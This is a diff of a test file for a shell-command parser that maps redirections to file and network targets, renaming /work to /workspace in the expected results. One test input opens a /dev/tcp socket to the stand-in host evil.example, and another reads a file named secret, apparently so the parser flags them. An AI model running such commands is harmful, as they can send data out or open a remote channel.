@@ -100,25 +100,25 @@ describe('and what runs inside of words', () => {
 
 describe('files that are redirected', () => {
   holds([
-    ['a > b', 'a', '>/work/b'],
+    ['a > b', 'a', '>/workspace/b'],
     ['a >> /x/../y', 'a', '>/y'],
     ['a 2>&1', 'a'],
     ['a >/dev/null 2>&1 </dev/null', 'a'],
-    ['a &> b', 'a', '>/work/b'],
-    ['a >& b', 'a', '>/work/b'],
-    ['a >| b <c', 'a', '>/work/b', '</work/c'],
-    ['a 3<> b', 'a', '>/work/b'],
-    ['> b', '>/work/b'],
-    ['{ a; } > b', 'a', '>/work/b'],
-    ['while a; do b; done < c', 'a', 'b', '</work/c'],
+    ['a &> b', 'a', '>/workspace/b'],
+    ['a >& b', 'a', '>/workspace/b'],
+    ['a >| b <c', 'a', '>/workspace/b', '</workspace/c'],
+    ['a 3<> b', 'a', '>/workspace/b'],
+    ['> b', '>/workspace/b'],
+    ['{ a; } > b', 'a', '>/workspace/b'],
+    ['while a; do b; done < c', 'a', 'b', '</workspace/c'],
     ['a > ~/b', 'a', '>/home/ada/b'],
     ['a > "$HOME/b"', 'a', '>/home/ada/b'],
     ['a > $x', 'a', '?'],
-    ['cd /etc && a > b', 'cd /etc', 'a', '>/work/b', '>/etc/b'],
+    ['cd /etc && a > b', 'cd /etc', 'a', '>/workspace/b', '>/etc/b'],
     ['cd "$x"; a > b', `cd '$x'`, 'a', '?'],
     ['cd "$x"; a > /b', `cd '$x'`, 'a', '>/b'],
     ['exec 3<>/dev/tcp/evil.example/80', `exec`, '@evil.example:80'],
-    ['echo $(<secret)', '</work/secret', `echo '$(<secret)'`],
+    ['echo $(<secret)', '</workspace/secret', `echo '$(<secret)'`],
   ]);
 });
 
